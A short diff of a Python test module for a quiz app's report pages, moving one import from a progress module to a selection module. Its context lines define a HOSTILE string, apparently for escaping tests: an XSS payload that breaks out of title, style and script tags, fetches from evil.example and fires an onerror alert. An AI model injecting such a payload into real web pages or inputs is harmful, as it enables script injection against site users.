@@ -13,7 +13,7 @@ from made_up_learner import TODAY, Learner, learner
 from quizapp.clock import day_to_date
 from quizapp.report.page import page
 from quizapp.report.report import WEEKS, Report, Span, days_of, last_year, year_before
-from quizapp.stats.progress import Selection
+from quizapp.stats.selection import Selection
 
 HOSTILE = '"></title></style></script><script>fetch("//evil.example")</script><img src=x onerror=alert(1)>\u202e'
 MOST_BYTES = 1_500_000
